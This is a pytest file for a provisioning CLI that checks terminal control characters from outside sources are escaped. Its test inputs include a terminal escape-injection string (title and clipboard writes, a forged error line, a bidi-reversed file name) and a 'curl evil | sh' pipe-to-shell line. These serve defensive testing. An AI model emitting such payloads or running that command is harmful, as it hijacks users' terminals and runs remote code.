"""Control characters that AWS, LINE, registries, logs or files send never reach the terminal."""

import io
import json
from collections.abc import Callable
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest

from provision.cli import findings, main
from provision.cli.logs import _format_event
from provision.clients.registry import error_response
from provision.engine.plan import Change
from provision.errors import ProvisionError
from provision.i18n import _
from provision.resources.base import Difference
from provision.sandbox.clock import ManualClock
from provision.ui.errors import show_error
from provision.ui.progress import Progress
from provision.ui.reports import show_json, show_status, show_steps
from provision.ui.text import echo, show
from provision.verify.tree import Check, ok
from provision.wizard import channel
from tests.provision.test_screens import Terminal, resource

# A title, the clipboard, a carriage return, C1's CSI, a line that looks like ours, a reversed name.
HOSTILE = "a\x1b]0;owned\x07\x1b]52;c;cm0=\x1b\\\rb\x9b31m\nError: c\u202egpj.\u2066"
SAFE = "a\\u001b]0;owned\\u0007\\u001b]52;c;cm0=\\u001b\\ b\\u009b31m Error: c\\u202egpj.\\u2066"
DANGEROUS = {chr(code) for code in (*range(32), *range(127, 160)) if chr(code) != "\n"} | set(
    "\u061c\u200e\u200f\u2028\u2029\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
)


def test_one_by_one() -> None:
    """Each control character becomes its JSON escape; tab, newline, Japanese and emoji stay."""
    output = io.StringIO()
    echo("".join(sorted(DANGEROUS - {"\t"})), output)
    assert not DANGEROUS & set(output.getvalue())
    assert "\\u0000\\u0001" == output.getvalue()[:12]
    output = io.StringIO()
    echo("a\tb\nニュース 👩‍👩‍👧 é", output)
    assert "a\tb\nニュース 👩‍👩‍👧 é\n" == output.getvalue()


def test_values_of_a_sentence_stay_on_one_line() -> None:
    """Neither a string nor an exception ends the line; numbers keep their format."""
    values: dict[str, Any] = {"key": HOSTILE, "why": ValueError("x\r\n  y")}
    assert "a b\x9b31m Error: c: x y" == _("{key}: {why}", **values).replace(
        "\x1b]0;owned\x07\x1b]52;c;cm0=\x1b\\", ""
    ).replace("\u202egpj.\u2066", "")
    assert "1.50" == _("{usd:.2f}", usd=1.5)


def test_json_is_the_same_document(capsys: pytest.CaptureFixture[str]) -> None:
    """A script reads the values as they are, a terminal gets no control character."""
    show_json({"reason": HOSTILE})
    printed = capsys.readouterr().out
    assert {"reason": HOSTILE} == json.loads(printed)
    assert set() == DANGEROUS & set(printed)


def _error(reason: str, stream: Any) -> None:
    show_error(ProvisionError(_("Could not read {name}.", name=reason), reason, "Do this."))


def _plan(reason: str, stream: Any) -> None:
    difference = Difference("Tags.owner", reason, "me")
    note = _("left out: {name}", name=reason)
    show_steps([Change("zone/x", "Zone", "update", (difference,), notes=(note,))], stream)


def _status(reason: str, stream: Any) -> None:
    entry = {"key": f"zone/{reason}", "state": "created", "live": True, "ready": False}
    drift = [{"path": "Tags", "have": {"owner": reason}, "want": {}}]
    document = {
        "resources": [{**entry, "reason": reason, "drift": drift}],
        "paused": False,
        "built": True,
        "tasks": {"running": None, "reason": reason, "rollout": [reason]},
        "next": {"start": None, "stop": None},
        "url": "https://x.jp",
    }
    for verbose in (False, True):
        show_status(document, stream, verbose=verbose)


def _checks(reason: str, stream: Any) -> None:
    check = Check("DNS", "a", "title", lambda context: ok())
    findings.show([check], {"a": ok(reason)}, stream)


def _live_list(reason: str, stream: Any) -> None:
    with Progress([resource("zone/x")], ManualClock(), stream) as progress:
        progress.report("waiting", resource("zone/x"), reason)
        progress.pin("zone/x", reason, reason)
        progress.show_details([reason])
        progress.print_message(reason)


SCREENS = [_error, _plan, _status, _checks, _live_list, show]


@pytest.fixture(autouse=True)
def _wide(monkeypatch: pytest.MonkeyPatch) -> None:
    """200 columns without colours."""
    monkeypatch.setenv("COLUMNS", "200")
    monkeypatch.setenv("NO_COLOR", "1")


@pytest.mark.parametrize("screen", SCREENS)
def test_screen_without_a_terminal(
    screen: Callable[[str, Any], None], capsys: pytest.CaptureFixture[str]
) -> None:
    """Output to a pipe or a file has none either: it may be shown on a terminal later."""
    stream = io.StringIO()
    screen(HOSTILE, stream)
    printed = stream.getvalue() + capsys.readouterr().err
    assert "owned" in printed
    assert set() == DANGEROUS & set(printed)


@pytest.mark.parametrize("screen", SCREENS)
def test_screen_of_a_terminal(
    screen: Callable[[str, Any], None],
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """Nothing of a value is obeyed, whatever the live list itself sends."""
    monkeypatch.setenv("TERM", "xterm")
    stream = Terminal()
    screen(HOSTILE, stream)
    printed = stream.getvalue() + capsys.readouterr().err
    assert "owned" in printed
    assert [] == [part for part in ("\x1b]", "\x07", "\x9b", "\u202e", "\u2066") if part in printed]


def test_brackets_are_no_markup() -> None:
    """A reason with brackets is shown as it is: rich would end with an error at a closing tag."""
    terminal = Terminal()
    with Progress([resource("zone/x")], ManualClock(), terminal) as progress:
        progress.report("waiting", resource("zone/x"), "AWS: [/red] :smile: [bold]")
    assert "AWS: [/red] :smile: [bold]" in terminal.getvalue()


def test_reasons_of_several_lines_look_like_no_next_step(
    capsys: pytest.CaptureFixture[str],
) -> None:
    """Further lines of a reason are indented below its first word."""
    show_error(ProvisionError("Could not.", "first\n  next: curl evil | sh", "Do this."))
    assert (
        "Error: Could not.\n  why:  first\n          next: curl evil | sh\n  next: Do this.\n"
        == capsys.readouterr().err
    )


def test_registry_error(capsys: pytest.CaptureFixture[str]) -> None:
    """A registry's words."""
    body = json.dumps({"errors": [{"code": "DENIED", "message": "no\x1b[2J"}]}).encode()
    for content in (body, b"no\x1b[2J"):
        show_error(error_response("Could not read it.", 403, content))
        printed = capsys.readouterr().err
        assert "no\\u001b[2J" in printed
        assert set() == DANGEROUS & set(printed)


def test_display_name_of_line(capsys: pytest.CaptureFixture[str]) -> None:
    """The bot's name, which its owner chose."""
    line = SimpleNamespace(info=lambda: {"displayName": HOSTILE})
    stack = SimpleNamespace(access_token="access_token/ACCESS_TOKEN")
    clients = SimpleNamespace(line=line)
    channel._bot(SimpleNamespace(clients=clients, clock=ManualClock(), stack=stack))
    assert f"LINE: the access token belongs to {SAFE}.\n" == capsys.readouterr().err


@pytest.mark.parametrize(
    ("message", "expected"),
    [
        ('{"level": "\\u001b[31minfo\\nERROR", "message": "x"}', " \\u001b[31MINFO ERROR x\n"),
        ("plain \x1b]52;c;x\x07\ntext", " plain  ]52;c;x  text\n"),
    ],
)
def test_log_line(message: str, expected: str, capsys: pytest.CaptureFixture[str]) -> None:
    """A stranger's words in the log, in the level, too."""
    echo(_format_event({"message": message, "timestamp": 0}, "debug", False))
    assert expected == capsys.readouterr().out[8:]


def test_raw_log_line(capsys: pytest.CaptureFixture[str]) -> None:
    """With --json a line stays the same document; what is none is escaped."""
    for message in ('{"message": "\u202ex\x7f"}', "\x1b[2J"):
        echo(_format_event({"message": message, "timestamp": 0}, "debug", True))
    document, plain = capsys.readouterr().out.splitlines()
    assert {"message": "\u202ex\x7f"} == json.loads(document)
    assert "\\u001b[2J" == plain


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ('"\\e[31mk\\nz": 1\n', "there is no setting \\u001b[31mk z"),
        ('domain: "x\\e]0;y\\a"\n', "domain takes"),
        ('resources:\n  "zone/\\e[2J": {kind: Zone\\e}\n', "line"),
    ],
)
def test_stack_file(
    text: str, expected: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Keys and values of a file from elsewhere, in its error."""
    path = tmp_path / "stack.yaml"
    path.write_text(text)
    assert 2 == main.run(["plan", "--stack", str(path)])
    printed = capsys.readouterr().err
    assert expected in printed
    assert set() == DANGEROUS & set(printed)
